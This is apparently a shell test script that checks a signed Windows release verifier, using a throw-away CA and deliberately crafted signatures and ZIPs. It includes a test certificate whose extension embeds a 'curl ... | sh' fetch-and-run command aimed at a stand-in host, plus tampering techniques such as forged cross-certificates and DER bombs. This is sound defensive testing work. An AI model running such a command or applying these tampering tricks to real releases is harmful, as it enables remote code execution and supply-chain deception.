#!/bin/sh
# Checks the signed Windows release end to end with a throw-away CA, code-signing certificate
# and time-stamp authority, made with openssl in a temporary folder that is removed at the end:
#   release/check-signed-release.sh
# It works in a clone of the checkout (build-signed/), since only a commit is signed and
# verified: changes in the working tree that are not committed become one commit there.
# - release.sh refuses to sign with the key missing, with a key it cannot read, with a key
#   that is not the certificate's and with a certificate not valid at the commit's time, and
#   to make a release with another SOURCE_DATE_EPOCH than the commit's time, each with a
#   one-line cause and no dist/ left behind, and leaves no dist/ either when its packages
#   cannot be installed;
# - the signed release is made twice by release/check-release.sh, in the clone and in a copy,
#   and the two must be byte-identical; each program's signature must verify against the CA;
# - release/verify-release.sh must accept the signed ZIP; the same with a time stamp on each
#   signature, which carries its authority's certificate twice; a release signed in 2000 by a
#   certificate that expired in 2001, stamped while it was valid, whose certificates name
#   revocation lists and an OCSP responder at a local listener that never answers, which must
#   get no connection; and two checks at once in the one checkout, of the signed ZIP and of one
#   whose chain carries a cross-certificate of the CA, with the caller's git turning line ends
#   into CR-LF, build flags exported and a replace ref on the commit under test;
# - it must refuse, each with a line that names the cause and before any build, ZIPs made to
#   fool it: entries that are not distinct plain files; a signature that carries what no
#   signer signed (a blob, a certificate on no path, in the signature or in its time stamp,
#   a revocation list in the time stamp, a second signer of the time stamp); signers that
#   may not sign (a certificate for key encipherment only, the CA itself, a TLS server's,
#   one below a certificate that is no CA, a time stamp by a code-signing certificate); a CA
#   that did not issue the certificate, and a time stamp from an authority the CA did not
#   certify, and a forged cross-certificate; a time stamp from the future, and a signing time
#   outside the signer's dates; an epoch that is not the commit's time or that no ZIP can
#   hold; a tag, a tree, a blob and a ref of 64 hex digits named as the commit; a signature
#   of 30000 empty elements, a signer named with a private-use character, 62 signatures whose
#   names are U+FDFA as far as they go, and 64 entries with names of 60000 bytes, which must
#   cost a few lines of output;
# - after a build, it must name zelmorth.exe in a ZIP where one of its bytes was changed, or
#   its PE checksum; say first when the ZIP records another toolchain, with no escape byte
#   of that field reaching the terminal; and refuse a ZIP whose files are all the release's
#   but whose bytes are not;
# - and it must give status 2 and one line for a file that is not a ZIP, a ZIP without
#   BUILDINFO.txt, a commit the checkout does not have, a build from changes never committed,
#   packages that cannot be installed, a TMPDIR it cannot write in, a build that outlives its
#   time limit, and a commit off the clone's main line, whose release.sh must not run; named
#   with --trust, that commit's release.sh runs and makes no ZIP, which is status 2 too. The
#   clone's main line (origin/main) is the commit under test;
# - in a partial clone, it must refuse to check, and the upload-pack of its remote, which
#   leaves a mark, must never run; SIGTERM and SIGINT during a build must end the check with
#   status 2, with none of the build's processes and no scratch folder left.
# Last, the property tests of the check's readers (release/fuzz_readers.py) run, from the
# signed release's own bytes. The signed release stays in build-signed/dist/ for the Windows
# tests that follow.
set -eu
here=$(cd "$(dirname "$0")/.." && pwd)
cd "$here"
. scripts/deps.sh
need_packages $VERIFY_PACKAGES python3-hypothesis
export LC_ALL=C
unset ZELMORTH_SIGN_KEY ZELMORTH_SIGN_CERT ZELMORTH_SIGN_TIMESTAMP_URL SOURCE_DATE_EPOCH
python=$(python_with asn1crypto hypothesis) || {
    echo "check-signed-release: no python3 here has asn1crypto and hypothesis" >&2
    exit 1
}

step() { printf '\n== %s\n' "$*"; }
fail() {
    echo "check-signed-release: $*" >&2
    exit 1
}

keys=$(mktemp -d)
listener=""
trap 'if [ -n "$listener" ]; then kill "$listener" 2>/dev/null || true; fi; rm -rf "$keys"' EXIT

step "A local listener that takes connections and never answers"
# It stands at every address the certificates below name for revocation, and logs each
# connection it is offered.
"$python" - "$keys/port" "$keys/connections" <<'EOF' &
import os, socket, sys
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(16)
with open(sys.argv[1] + ".new", "w") as out:
    out.write(str(server.getsockname()[1]))
os.rename(sys.argv[1] + ".new", sys.argv[1])
held = []
while True:
    connection, _ = server.accept()
    with open(sys.argv[2], "a") as log:
        log.write("a connection\n")
    held.append(connection)
EOF
listener=$!
waited=0
while [ ! -s "$keys/port" ]; do
    [ "$waited" -lt 300 ] || fail "the listener did not start"
    kill -0 "$listener" 2>/dev/null || fail "the listener did not start"
    sleep 0.1
    waited=$((waited + 1))
done
url=http://127.0.0.1:$(cat "$keys/port")
echo "listening at $url"

step "A throw-away CA and code-signing certificate in $keys"
# Valid from 2000 to 2099, so that any commit time, which is the signing time, lies within.
cat > "$keys/ca.cnf" <<EOF
[ca]
default_ca = throwaway
[throwaway]
database = $keys/index.txt
new_certs_dir = $keys
serial = $keys/serial
default_md = sha256
policy = any_name
unique_subject = no
[any_name]
commonName = supplied
[root]
basicConstraints = critical, CA:true
keyUsage = critical, keyCertSign, cRLSign
subjectKeyIdentifier = hash
[code_signing]
basicConstraints = critical, CA:false
keyUsage = critical, digitalSignature
extendedKeyUsage = codeSigning
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
[time_stamping]
basicConstraints = critical, CA:false
keyUsage = critical, digitalSignature
extendedKeyUsage = critical, timeStamping
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
[code_signing_online]
basicConstraints = critical, CA:false
keyUsage = critical, digitalSignature
extendedKeyUsage = codeSigning
crlDistributionPoints = URI:$url/who-verifies-zip-4711.crl
authorityInfoAccess = OCSP;URI:$url/ocsp, caIssuers;URI:$url/ca.crt
[time_stamping_online]
basicConstraints = critical, CA:false
keyUsage = critical, digitalSignature
extendedKeyUsage = critical, timeStamping
crlDistributionPoints = URI:$url/who-stamps-4711.crl
[key_encipherment]
basicConstraints = critical, CA:false
keyUsage = critical, keyEncipherment
[tls_server]
basicConstraints = critical, CA:false
keyUsage = critical, digitalSignature, keyEncipherment
extendedKeyUsage = serverAuth
[no_ca]
basicConstraints = critical, CA:false
keyUsage = critical, digitalSignature, keyCertSign
extendedKeyUsage = codeSigning
[smuggler]
basicConstraints = critical, CA:true
1.3.6.1.4.1.55555.1 = ASN1:UTF8String:#!/bin/sh -e; curl -s http://example.invalid/x | sh
[cross]
basicConstraints = critical, CA:true
keyUsage = critical, keyCertSign, cRLSign
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
EOF
: > "$keys/index.txt"
echo 01 > "$keys/serial"
# certify NAME SUBJECT EXTENSIONS [ISSUER [FROM UNTIL]] makes the key NAME.key, unless there
# is one, and its certificate NAME.pem, issued by ISSUER or, without one, by itself, valid from
# 2000 to 2099 or from FROM until UNTIL.
certify() {
    [ -e "$keys/$1.key" ] ||
        openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out "$keys/$1.key" 2>/dev/null
    openssl req -new -key "$keys/$1.key" -subj "/CN=$2" -out "$keys/$1.csr"
    if [ $# -ge 4 ] && [ "$4" != self ]; then
        issuer="-cert $keys/$4.pem -keyfile $keys/$4.key"
    else
        issuer="-selfsign -keyfile $keys/$1.key"
    fi
    # shellcheck disable=SC2086 # the issuer's options
    openssl ca -batch -notext -config "$keys/ca.cnf" -extensions "$3" $issuer \
        -startdate "${5:-20000101000000Z}" -enddate "${6:-20991231235959Z}" \
        -in "$keys/$1.csr" -out "$keys/$1.pem" 2>/dev/null
}
certify ca "zelmorth throw-away CA" root
certify signer "zelmorth throw-away signer" code_signing ca
certify other "another throw-away CA" root
certify tsa "zelmorth throw-away time-stamp authority" time_stamping ca
certify foreign_tsa "another time-stamp authority" time_stamping other
certify expired "a signer that expired in 2001" code_signing_online ca \
    20000101000000Z 20010101000000Z
certify online_tsa "a time-stamp authority with a revocation list" time_stamping_online ca
certify enciphering "a certificate for key encipherment only" key_encipherment ca
certify server "a TLS server" tls_server ca
certify no_ca "a certificate that is no CA" no_ca ca
certify under_no_ca "a signer below a certificate that is no CA" code_signing no_ca
certify smuggler "a certificate that carries a script" smuggler
certify late "a signer valid from 2001" code_signing ca 20010101000000Z 20991231235959Z
certify future "a signer valid from 2090" code_signing ca 20900101000000Z 20991231235959Z
# The CA's key and name certified by the other CA, as a cross-certificate is; and a forgery of
# one, which names the other CA as its issuer, down to its key identifier, but was signed by a
# CA that merely has that name and identifier.
cp "$keys/ca.key" "$keys/cross.key"
certify cross "zelmorth throw-away CA" cross other
printf '[impostor]\nbasicConstraints = critical, CA:true\nkeyUsage = critical, keyCertSign\n%s\n' \
    "subjectKeyIdentifier = $(openssl x509 -in "$keys/other.pem" -noout -ext subjectKeyIdentifier |
        sed -n '2s/^ *//p')" >> "$keys/ca.cnf"
certify impostor "another throw-away CA" impostor
cp "$keys/ca.key" "$keys/forged.key"
certify forged "zelmorth throw-away CA" root impostor
cat "$keys/ca.pem" "$keys/other.pem" > "$keys/ca-and-other.pem"
openssl ca -gencrl -config "$keys/ca.cnf" -keyfile "$keys/ca.key" -cert "$keys/ca.pem" \
    -crldays 30 -out "$keys/ca.crl" 2>/dev/null
cat "$keys/signer.pem" "$keys/ca.pem" > "$keys/chain.pem"
openssl x509 -in "$keys/signer.pem" -noout -subject -issuer -dates

step "A clone of the checkout in build-signed/"
work=$here/build-signed
rm -rf "$work"
git clone -q --no-local "$here" "$work"
git -C "$work" checkout -q --detach "$(git rev-parse HEAD)"
if [ -n "$(git status --porcelain)" ]; then
    git -C "$work" rm -q -r .
    git ls-files -z --cached --others --exclude-standard |
        tar --null --ignore-failed-read -T - -cf - 2>/dev/null | tar -xf - -C "$work"
    git -C "$work" add -A
    git -C "$work" -c user.name=check-signed-release -c user.email=check@invalid \
        commit -q -m "Changes in $here that are not committed"
fi
# The commit under test is the clone's main line, and one commit off it has a release.sh that
# leaves a mark, made beside the working tree through an index of its own; so has a commit of
# the same time beside it, which a replace ref will put in its place. An annotated tag points
# at the commit under test, and a lightweight one named in 64 hex digits too.
git -C "$work" update-ref refs/remotes/origin/main HEAD
git -C "$work" -c user.name=check-signed-release -c user.email=check@invalid \
    tag -a -m "A tag of the commit under test" tagged HEAD
mark=$keys/mark
(
    cd "$work"
    export GIT_INDEX_FILE="$keys/index"
    git read-tree HEAD
    script=$(printf '#!/bin/sh\necho "this release.sh ran" > "%s"\n' "$mark" |
        git hash-object -w --stdin)
    git update-index --cacheinfo "100755,$script,release/release.sh"
    git update-ref refs/heads/untrusted "$(git -c user.name=check-signed-release \
        -c user.email=check@invalid commit-tree -p HEAD -m "A release.sh that leaves a mark" \
        "$(git write-tree)")"
    script=$(printf '#!/bin/sh\necho "this release.sh ran" > "%s"\n' "$keys/replaced" |
        git hash-object -w --stdin)
    git update-index --cacheinfo "100755,$script,release/release.sh"
    GIT_COMMITTER_DATE="$(git log -1 --format=%ct HEAD) +0000" git update-ref \
        refs/heads/replacement "$(git -c user.name=check-signed-release \
        -c user.email=check@invalid commit-tree -p HEAD^ -m "A replacement that leaves a mark" \
        "$(git write-tree)")"
)
hex_tag=$(printf '%.64s' "c0ffee$(git -C "$work" rev-parse HEAD HEAD | tr -d '\n')")
git -C "$work" tag "$hex_tag" HEAD
git -C "$work" log -1 --format='%H %ct %s'
cd "$work"

step "release.sh refuses a release it cannot make right, in one line, and leaves no dist/"
while IFS='|' read -r what key cert epoch cause; do
    # A dist/ of an earlier unsigned release must not survive.
    mkdir -p dist
    echo "an earlier, unsigned zelmorth.exe" > dist/zelmorth.exe
    if ZELMORTH_SIGN_KEY=$key ZELMORTH_SIGN_CERT=$cert SOURCE_DATE_EPOCH=$epoch \
        ./release/release.sh > "$keys/out" 2> "$keys/err" < /dev/null; then
        fail "release.sh made a release with $what"
    fi
    [ ! -e dist ] || fail "release.sh, refusing $what, left dist/ behind"
    if [ "$(wc -l < "$keys/err")" -ne 1 ] || ! grep -q "$cause" "$keys/err"; then
        cat "$keys/err" >&2
        fail "release.sh, refusing $what, does not say \"$cause\" in one line"
    fi
    echo "$what: $(cat "$keys/err")"
done <<EOF
the key missing||$keys/chain.pem||ZELMORTH_SIGN_KEY (the PEM private key) is not set
a key it cannot read|$keys/absent.key|$keys/chain.pem||cannot read the key
a key that is not the certificate's|$keys/other.key|$keys/chain.pem||does not match
another epoch than the commit's time|||4102444800|SOURCE_DATE_EPOCH=4102444800 is not the time of commit
a certificate not valid at the commit's time|$keys/future.key|$keys/future.pem||is valid from Jan  1 00:00:00 2090 GMT
EOF
# Packages that cannot be installed: none is, and apt-get and sudo fail. An earlier dist/ must
# not survive that either.
mkdir "$keys/bin"
for tool in dpkg-query apt-get sudo; do
    printf '#!/bin/sh\necho "%s: not here" >&2\nexit 1\n' "$tool" > "$keys/bin/$tool"
    chmod +x "$keys/bin/$tool"
done
mkdir -p dist
echo "an earlier, unsigned zelmorth.exe" > dist/zelmorth.exe
if PATH=$keys/bin:$PATH ./release/release.sh > /dev/null 2>&1 < /dev/null; then
    fail "release.sh ran without its packages"
fi
[ ! -e dist ] || fail "release.sh, without its packages, left dist/ behind"
echo "packages that cannot be installed: no dist/ left"

step "The signed release, made twice and compared"
ZELMORTH_SIGN_KEY=$keys/signer.key ZELMORTH_SIGN_CERT=$keys/chain.pem ./release/check-release.sh

step "Each program's signature against the throw-away CA"
for program in dist/*.exe; do
    if ! osslsigncode verify -ignore-crl -CAfile "$keys/ca.pem" -in "$program" \
        > "$keys/out" 2>&1; then
        cat "$keys/out" >&2
        fail "the signature of $program does not verify against the throw-away CA"
    fi
    echo "$program: $(grep -E '^(Signature verification|[[:space:]]*Signing time)' "$keys/out" |
        tr -s ' \t\n' ' ')"
done

set -- dist/zelmorth-*-windows-x64.zip
zip=$work/$1
programs=$(python3 release/release_zip.py --programs build-release)
epoch=$(tr -d '\r' < build-release/BUILDINFO.txt | sed -n 's/^source-date-epoch: //p')
mkdir "$keys/unsigned"
for program in $programs; do
    osslsigncode remove-signature -in "dist/$program" -out "$keys/unsigned/$program" > /dev/null
done
# verify STATUS FILE ARGUMENT... runs verify-release.sh on FILE and fails unless it ends with
# STATUS; its output is in $keys/out and $keys/err.
verify() {
    expected=$1
    shift
    status=0
    ./release/verify-release.sh "$@" > "$keys/out" 2> "$keys/err" < /dev/null || status=$?
    cat "$keys/out"
    if [ "$status" -ne "$expected" ]; then
        cat "$keys/err" >&2
        fail "verify-release.sh $* ended with $status, not $expected"
    fi
}
# line WORD NAME holds when the output has the line for NAME that begins with WORD.
line() {
    awk -v word="$1" -v name="$2" '$1 == word && $3 == name { found = 1 } END { exit !found }' \
        "$keys/out"
}
# cannot CAUSE fails unless verify-release.sh said CAUSE in one line on standard error, and
# nothing on standard output but that it was building.
cannot() {
    if grep -qv '^Building commit ' "$keys/out" || [ "$(wc -l < "$keys/err")" -ne 1 ] ||
        ! grep -qF -- "$1" "$keys/err"; then
        cat "$keys/err" >&2
        fail "verify-release.sh did not say \"$1\" in one line alone"
    fi
    cat "$keys/err"
}
# craft ... runs release/craft.py, which makes the crafted programs and ZIPs.
craft() { "$python" -B release/craft.py "$@"; }
# signed_zip OUT FOLDER makes the release's ZIP from the programs in FOLDER, as release.sh
# makes it.
signed_zip() { python3 release/release_zip.py build-release "$2" "$epoch" "$1"; }
# stamp AUTHORITY TIME IN OUT adds a time stamp by AUTHORITY at TIME to the signed program IN,
# from osslsigncode's own time-stamp authority, which carries its certificate twice.
stamp() {
    osslsigncode add -TSA-certs "$keys/$1.pem" -TSA-key "$keys/$1.key" -TSA-time "$2" \
        -in "$3" -out "$4" > /dev/null
}
# sign_as KEY CHAIN TIME IN OUT signs the unsigned program IN with KEY and the certificates
# in CHAIN, at TIME.
sign_as() {
    osslsigncode sign -h sha256 -key "$keys/$1.key" -certs "$2" -time "$3" -in "$4" \
        -out "$5" > /dev/null
}
names=$(python3 -c 'import sys, zipfile; print(*zipfile.ZipFile(sys.argv[1]).namelist())' "$zip")

step "verify-release.sh accepts the signed ZIP"
verify 0 "$zip" --ca "$keys/ca.pem"
for name in $names; do
    line same "$name" || fail "verify-release.sh gave no \"same\" line for $name"
done
grep -q '^verify-release: revocation was not checked' "$keys/out" ||
    fail "verify-release.sh did not say that revocation was not checked"

step "verify-release.sh accepts the signed ZIP with a time stamp on each signature"
mkdir "$keys/stamped"
for program in $programs; do
    stamp tsa "$epoch" "dist/$program" "$keys/stamped/$program"
done
signed_zip "$keys/stamped.zip" "$keys/stamped"
verify 0 "$keys/stamped.zip" --ca "$keys/ca.pem"

step "verify-release.sh accepts a release whose certificate has expired since its time stamp, and contacts no address it names"
# Signed and stamped on 2000-06-01 by a certificate valid through 2000 alone: Windows judges
# the certificate at the time stamp's time. The certificates name revocation lists, an OCSP
# responder and their issuer at the listener, which must get no connection, and which, if it
# got one, would never answer.
mkdir "$keys/expired"
for program in $programs; do
    sign_as expired "$keys/expired.pem" 959817600 "$keys/unsigned/$program" \
        "$keys/expired/$program.signed"
    stamp online_tsa 959817600 "$keys/expired/$program.signed" "$keys/expired/$program"
    rm "$keys/expired/$program.signed"
done
signed_zip "$keys/expired.zip" "$keys/expired"
verify 0 "$keys/expired.zip" --ca "$keys/ca.pem"
if [ -e "$keys/connections" ]; then
    fail "verify-release.sh connected to an address that a certificate names" \
        "($(wc -l < "$keys/connections") connections)"
fi
echo "the listener at $url got no connection"

step "verify-release.sh: two checks at once in one checkout, one of a chain with a cross-certificate, with the caller's settings in place"
# The second ZIP's zelmorth.exe carries the CA's cross-certificate from the other CA in the
# place of the CA itself, and --ca holds both. The caller's git turns line ends into CR-LF
# and has an attributes file of its own, the build flags are the caller's, and a replace ref
# puts a commit of the same time whose release.sh leaves a mark in the place of the commit
# under test: none of it may reach either check.
cat "$keys/signer.pem" "$keys/cross.pem" > "$keys/cross-chain.pem"
mkdir "$keys/cross" "$keys/home"
sign_as signer "$keys/cross-chain.pem" "$epoch" "$keys/unsigned/zelmorth.exe" \
    "$keys/cross/zelmorth.exe"
cp dist/zelmorth-check.exe "$keys/cross/"
signed_zip "$keys/cross.zip" "$keys/cross"
printf '* text eol=crlf\n' > "$keys/home/attributes"
printf '[core]\n\tautocrlf = true\n\tattributesFile = %s\n' "$keys/home/attributes" \
    > "$keys/home/.gitconfig"
git replace "$(git rev-parse HEAD)" "$(git rev-parse replacement)"
status_one=0
status_two=0
(
    export HOME="$keys/home" CXXFLAGS=-fno-omit-frame-pointer CFLAGS=-O0 \
        LDFLAGS=-Wl,--insert-timestamp MAKEFLAGS=-j1 CMAKE_BUILD_TYPE=Debug
    ./release/verify-release.sh "$zip" --ca "$keys/ca.pem" > "$keys/one" 2>&1 < /dev/null &
    one=$!
    ./release/verify-release.sh "$keys/cross.zip" --ca "$keys/ca-and-other.pem" \
        > "$keys/two" 2>&1 < /dev/null &
    two=$!
    wait "$one" || status_one=$?
    wait "$two" || status_two=$?
    for run in one two; do
        tail -n 2 "$keys/$run"
    done
    if [ "$status_one" -ne 0 ] || [ "$status_two" -ne 0 ]; then
        cat "$keys/one" "$keys/two" >&2
        fail "two checks at once ended with $status_one and $status_two, not 0 and 0"
    fi
) || exit 1
git replace -d "$(git rev-parse HEAD)" > /dev/null
[ ! -e "$keys/replaced" ] || fail "verify-release.sh built the commit that a replace ref names"

step "verify-release.sh refuses ZIPs made to fool it, before any build, naming the cause"
osslsigncode add -addUnauthenticatedBlob -in dist/zelmorth.exe -out "$keys/blob.exe" > /dev/null
stamp tsa "$epoch" dist/zelmorth.exe "$keys/stamped.exe"
stamp foreign_tsa "$epoch" dist/zelmorth.exe "$keys/foreign-stamp.exe"
craft program stamp-signer "$keys/stamped.exe" "$keys/code-signer-stamp.exe" \
    "$keys/signer.pem" "$keys/signer.key"
craft program add-cert dist/zelmorth.exe "$keys/smuggled-cert.exe" "$keys/smuggler.pem"
craft program add-stamp-cert "$keys/stamped.exe" "$keys/smuggled-stamp-cert.exe" \
    "$keys/smuggler.pem"
craft program add-stamp-crl "$keys/stamped.exe" "$keys/stamp-crl.exe" "$keys/ca.crl"
craft program second-stamp-signer "$keys/stamped.exe" "$keys/second-signer.exe"
craft program der-bomb dist/zelmorth.exe "$keys/der-bomb.exe"
craft program sid-private-use dist/zelmorth.exe "$keys/sid-private-use.exe"
craft program expanding-names "$keys/stamped.exe" "$keys/expanding.exe"
stamp tsa 3786912000 dist/zelmorth.exe "$keys/future-stamp.exe"
unsigned=$keys/unsigned/zelmorth.exe
sign_as enciphering "$keys/enciphering.pem" "$epoch" "$unsigned" "$keys/enciphering.exe"
sign_as ca "$keys/ca.pem" "$epoch" "$unsigned" "$keys/by-the-ca.exe"
sign_as server "$keys/server.pem" "$epoch" "$unsigned" "$keys/server.exe"
cat "$keys/under_no_ca.pem" "$keys/no_ca.pem" "$keys/ca.pem" > "$keys/no-ca-chain.pem"
sign_as under_no_ca "$keys/no-ca-chain.pem" "$epoch" "$unsigned" "$keys/under-no-ca.exe"
sign_as late "$keys/late.pem" 959817600 "$unsigned" "$keys/late.exe.signed"
stamp tsa 991353600 "$keys/late.exe.signed" "$keys/late.exe"
cat "$keys/signer.pem" "$keys/forged.pem" > "$keys/forged-chain.pem"
sign_as signer "$keys/forged-chain.pem" "$epoch" "$unsigned" "$keys/forged.exe"
commit=$(git rev-parse HEAD)
while IFS='|' read -r changes ca cause; do
    # shellcheck disable=SC2086 # one word per change
    craft zip "$zip" "$keys/crafted.zip" $changes
    verify 1 "$keys/crafted.zip" ${ca:+--ca "$keys/$ca.pem"} > /dev/null
    if ! grep -qF -- "$cause" "$keys/out" || grep -q '^Building commit' "$keys/out"; then
        cat "$keys/out" >&2
        fail "verify-release.sh did not refuse the ZIP with $changes for \"$cause\" before a build"
    fi
    echo "$changes: $(grep -F -- "$cause" "$keys/out")"
done <<EOF
duplicate|ca|zelmorth.exe (entry 2: the same name as entry 1)
dot-slash|ca|./zelmorth.exe (entry 5: not a plain file name)
line-end|ca|README.txt\x0azelmorth.exe (entry 5: not a plain file name)
program=zelmorth.exe:$keys/blob.exe|ca|the unauthenticated attribute 1.3.6.1.4.1.42921.1.2.1
program=zelmorth.exe:$keys/smuggled-cert.exe|ca|its signature carries the certificate "CN=a certificate that carries a script"
program=zelmorth.exe:$keys/smuggled-stamp-cert.exe|ca|its time stamp carries the certificate "CN=a certificate that carries a script"
program=zelmorth.exe:$keys/stamp-crl.exe|ca|its time stamp carries revocation lists
program=zelmorth.exe:$keys/second-signer.exe|ca|its time stamp has 2 signers, not one
program=zelmorth.exe:$keys/enciphering.exe|ca|its signer "CN=a certificate for key encipherment only" may not sign code: it has no extended key usage for code signing, and its key usage (key_encipherment) does not allow digital signatures
program=zelmorth.exe:$keys/by-the-ca.exe|ca|its signer "CN=zelmorth throw-away CA" may not sign code: it has no extended key usage for code signing, and its key usage (crl_sign, key_cert_sign) does not allow digital signatures, and it is a CA certificate
program=zelmorth.exe:$keys/server.exe|ca|its signer "CN=a TLS server" may not sign code: its extended key usage (server_auth) does not include code signing
program=zelmorth.exe:$keys/under-no-ca.exe|ca|its chain passes through "CN=a certificate that is no CA", which may not issue certificates: it is not a CA certificate
program=zelmorth.exe:$keys/code-signer-stamp.exe|ca|its time stamp's signer "CN=zelmorth throw-away signer" may not stamp time: it has no extended key usage for time stamping
program=zelmorth.exe:$keys/foreign-stamp.exe|ca|zelmorth.exe: its time stamp does not verify against
commit=$commit|other|zelmorth.exe: it does not verify against $keys/other.pem: its chain ends at the root "CN=zelmorth throw-away CA", which is not in $keys/other.pem
epoch=0|ca|BUILDINFO.txt gives source-date-epoch 0 (1970-01-01 00:00:00 UTC), but commit $commit was made at $epoch
epoch=4102444800|ca|BUILDINFO.txt gives source-date-epoch 4102444800 (2100-01-01 00:00:00 UTC), but commit $commit was made at $epoch
epoch=4354819200|ca|source-date-epoch 4354819200 (2108-01-01 00:00:00 UTC), later than any ZIP entry can hold
epoch=999999999999|ca|source-date-epoch 999999999999 (33658-09-27 01:46:39 UTC), later than any ZIP entry can hold
commit=$(git rev-parse tagged)|ca|names $(git rev-parse tagged) as its commit, but that is a tag object here
commit=$(git rev-parse 'HEAD^{tree}')|ca|names $(git rev-parse 'HEAD^{tree}') as its commit, but that is a tree object here
commit=$(git rev-parse HEAD:README.md)|ca|names $(git rev-parse HEAD:README.md) as its commit, but that is a blob object here
program=zelmorth.exe:$keys/der-bomb.exe|ca|its signature is not DER: it has more than the 4096 elements that a signature has
program=zelmorth.exe:$keys/sid-private-use.exe|ca|its signature does not carry its signer's certificate
program=zelmorth.exe:$keys/future-stamp.exe|ca|its time stamp names 2090-01-01 00:00:00+00:00, later than this machine's clock
program=zelmorth.exe:$keys/late.exe|ca|it gives its signing time as 2000-06-01 00:00:00 UTC, when its signer's certificate "CN=a signer valid from 2001"
program=zelmorth.exe:$keys/forged.exe|ca-and-other|its chain holds "CN=zelmorth throw-away CA", which has the name of a CA of $keys/ca-and-other.pem but is neither that certificate nor a cross-certificate
commit=$hex_tag|ca|names $hex_tag as its commit, but the object ids of this checkout have 40 hex digits
program=zelmorth.exe:$keys/expanding.exe program=zelmorth-check.exe:$keys/expanding.exe copies=$keys/expanding.exe||its time stamp does not verify: Verify error:certificate signature failure
long-names|ca|BAD NAME ... and 55 more like it
EOF
# Those 64 names of 60000 bytes each come to a few lines.
[ "$(wc -c < "$keys/out")" -lt 8192 ] ||
    fail "verify-release.sh printed $(wc -c < "$keys/out") bytes for 64 long names"
if grep -q "$(printf '\033')" "$keys/out" "$keys/err"; then
    fail "verify-release.sh let an escape character of a name through"
fi

step "verify-release.sh refuses a ZIP with one byte of zelmorth.exe changed"
craft zip "$zip" "$keys/byte.zip" byte
verify 1 "$keys/byte.zip"
line DIFFERENT zelmorth.exe || fail "verify-release.sh did not name zelmorth.exe as DIFFERENT"
for name in $names; do
    [ "$name" = zelmorth.exe ] || line same "$name" ||
        fail "verify-release.sh did not find $name the same"
done

step "verify-release.sh says first when the ZIP records another toolchain, and escapes it"
craft zip "$zip" "$keys/compiler.zip" compiler
verify 1 "$keys/compiler.zip"
sed -n 2p "$keys/out" | grep -q '^NOTE: this toolchain is not the one that built the release' ||
    fail "verify-release.sh did not say first that the toolchain differs"
grep -qF '    compiler: release: another\x1b[8m compiler 1.0\x5cn' "$keys/out" ||
    fail "verify-release.sh did not name the compiler that differs, escaped"
if grep -q "$(printf '\033')" "$keys/out" "$keys/err"; then
    fail "verify-release.sh let an escape character of the ZIP through"
fi
if ! line DIFFERENT BUILDINFO.txt || ! line same zelmorth.exe; then
    fail "verify-release.sh did not find BUILDINFO.txt alone different"
fi

step "verify-release.sh refuses, after a build, ZIPs whose bytes are not the release's"
while IFS='|' read -r change cause; do
    craft zip "$zip" "$keys/crafted.zip" "$change"
    verify 1 "$keys/crafted.zip" --ca "$keys/ca.pem" > /dev/null
    grep -qF -- "$cause" "$keys/out" ||
        fail "verify-release.sh did not refuse the ZIP with $change for \"$cause\""
    echo "$change: $(grep -F -- "$cause" "$keys/out")"
done <<EOF
checksum|in the PE checksum
comment|DIFFERENT the ZIP itself: its files are the same
EOF

step "verify-release.sh: status 2 and one line when it cannot check"
craft zip "$zip" "$keys/no-buildinfo.zip" no-buildinfo
craft zip "$zip" "$keys/unknown.zip" "commit=$(printf '%s' "$commit" | tr 0-9a-f 1-9a-f0)"
craft zip "$zip" "$keys/dirty.zip" "commit=$commit-dirty"
while IFS='|' read -r file cause; do
    verify 2 "$file"
    cannot "$cause"
done <<EOF
$work/README.md|is not a ZIP file
$keys/no-buildinfo.zip|holds no BUILDINFO.txt
$keys/unknown.zip|is not in this checkout
$keys/dirty.zip|changes that were never committed
EOF
# Packages that cannot be installed, with the stand-ins for dpkg-query, apt-get and sudo.
(
    PATH=$keys/bin:$PATH
    verify 2 "$zip"
    cannot "the packages it needs could not be installed"
) || exit 1
# A TMPDIR that it cannot write in.
(
    TMPDIR=$keys/absent
    export TMPDIR
    verify 2 "$zip"
    cannot "cannot make a temporary file in $keys/absent (TMPDIR)"
) || exit 1
# A commit off the main line: its release.sh must not run. Named with --trust, it runs, and
# makes no ZIP.
untrusted=$(git rev-parse untrusted)
craft zip "$zip" "$keys/untrusted.zip" "commit=$untrusted" "epoch=$(git log -1 --format=%ct untrusted)"
verify 2 "$keys/untrusted.zip" --ca "$keys/ca.pem"
cannot "commit $untrusted is not on origin/main"
[ ! -e "$mark" ] || fail "verify-release.sh ran the release.sh of a commit off the main line"
verify 2 "$keys/untrusted.zip" --ca "$keys/ca.pem" --trust untrusted
cannot "the build of commit $untrusted made 0 ZIP files, not one"
[ -e "$mark" ] || fail "verify-release.sh did not build the commit that --trust names"
[ -z "$(find . -maxdepth 1 -name 'build-verify-*' -print)" ] ||
    fail "verify-release.sh left a scratch folder behind"
# A build that outlives its time limit is stopped, and its log kept; no build of the release
# takes a second.
(
    ZELMORTH_VERIFY_BUILD_SECONDS=1
    export ZELMORTH_VERIFY_BUILD_SECONDS
    verify 2 "$zip" --ca "$keys/ca.pem"
    cannot "the build of commit $commit did not finish within 1 s, so it was stopped"
) || exit 1
set -- build-verify-*/build.log
[ -f "$1" ] || fail "verify-release.sh kept no log of the build it stopped"
rm -r "$(dirname "$1")"

step "verify-release.sh in a partial clone: cannot check, and never goes online"
# A bare remote of the clone whose upload-pack leaves a mark, and which serves any commit by
# its id, as a hosting site serves a fork's: the commit off the main line lies there under a
# ref that no clone takes. The partial clone is made through the plain upload-pack.
remote=$keys/remote.git
git clone -q --bare --no-local "$work" "$remote"
git -C "$remote" update-ref refs/heads/main "$commit"
git -C "$remote" symbolic-ref HEAD refs/heads/main
git -C "$remote" update-ref refs/fork/untrusted "$untrusted"
git -C "$remote" update-ref -d refs/heads/untrusted
git -C "$remote" config uploadpack.allowFilter true
git -C "$remote" config uploadpack.allowAnySHA1InWant true
git clone -q --filter=blob:none "file://$remote" "$keys/partial"
printf '#!/bin/sh\necho "upload-pack ran" >> "%s"\nexec git-upload-pack "$@"\n' "$keys/fetched" \
    > "$keys/upload-pack"
chmod +x "$keys/upload-pack"
git -C "$keys/partial" config remote.origin.uploadpack "$keys/upload-pack"
(cd "$keys/partial" && verify 2 "$keys/untrusted.zip") || exit 1
